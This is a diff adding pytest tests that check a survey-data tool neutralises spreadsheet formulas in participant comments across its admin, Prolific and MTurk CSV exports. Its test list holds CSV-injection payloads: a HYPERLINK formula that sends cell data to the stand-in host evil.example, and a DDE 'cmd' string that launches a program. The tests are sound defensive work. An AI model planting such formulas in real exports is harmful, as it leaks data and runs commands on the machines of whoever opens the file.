@@ -182,3 +182,65 @@ def test_database_and_its_side_files_are_private(tmp_path):
         assert stat.S_IMODE(made.db_path.stat().st_mode) == 0o600
     finally:
         os.umask(old)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "@SUM(1+1)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+]
+
+
+def test_formulas_in_comments_are_neutralised_in_every_csv(tmp_path):
+    """Issue 20.3: ``=HYPERLINK(...)`` in a comment came out verbatim in the admin CSV and in
+    ``collect prolific --table``; every CSV now starts such a cell with an apostrophe."""
+    made = new_study(tmp_path, prolific_study_id="STUDY1")
+    client = client_of(made)
+    started = start(client, made, "PIDA").json()
+    for index in range(started["total_screens"]):
+        body = {
+            "token": started["token"],
+            "screen_index": index,
+            "answers": answers_of(started, index),
+            "timing": TIMING,
+            "comment": FORMULAS[index % len(FORMULAS)],
+        }
+        assert client.post(f"/api/{made.key}/screen", json=body).status_code == 200
+    headers = {"Authorization": f"Bearer {made.token_path.read_text().strip()}"}
+    raw = client.get(f"/admin/{made.key}/export?format=json", headers=headers).json()
+    assert {r["comment"] for r in raw} == set(FORMULAS[: started["total_screens"]])  # JSON keeps the text
+    admin_csv = client.get(f"/admin/{made.key}/export?format=csv", headers=headers).text
+    table, participants = tmp_path / "table.csv", tmp_path / "participants.csv"
+    args = ["collect", "prolific", str(made.study_dir), "--out", str(tmp_path / "r.csv")]
+    result = CliRunner().invoke(main, [*args, "--table", str(table), "--participants", str(participants)])
+    assert result.exit_code == 0, result.output
+    for text in (admin_csv, table.read_bytes().decode("utf-8")):
+        comments = pd.read_csv(pd.io.common.StringIO(text), keep_default_na=False)["comment"]
+        assert set(comments) == {"'" + f for f in FORMULAS[: started["total_screens"]]}
+    exported = pd.read_csv(table, keep_default_na=False)
+    risky = exported.map(lambda v: isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r")))
+    assert not risky.any().any()
+    assert pd.read_csv(participants)["screens_saved"].tolist() == [started["total_screens"]]
+
+
+def test_formulas_in_mturk_outputs_are_neutralised(tmp_path):
+    from tests.test_mturk import small_design, synthesize
+
+    import numpy as np
+
+    design = small_design("likert")
+    design.write(tmp_path / "design.csv")
+    results, _ = synthesize(design, np.random.default_rng(3))
+    comment_columns = [c for c in results.columns if c.startswith("Answer.tm_")][:3]
+    for column, formula in zip(comment_columns, FORMULAS, strict=False):
+        results[column.replace("Answer.tm_", "Answer.cm_")] = formula
+    results.to_csv(tmp_path / "batch.csv", index=False)
+    table = tmp_path / "long.csv"
+    args = ["collect", "mturk", str(tmp_path / "batch.csv"), "--design", str(tmp_path / "design.csv")]
+    result = CliRunner().invoke(main, [*args, "--out", str(tmp_path / "r.csv"), "--table", str(table)])
+    assert result.exit_code == 0, result.output
+    comments = set(pd.read_csv(table, keep_default_na=False)["comment"]) - {""}
+    assert comments == {"'" + f for f in FORMULAS[:3]}
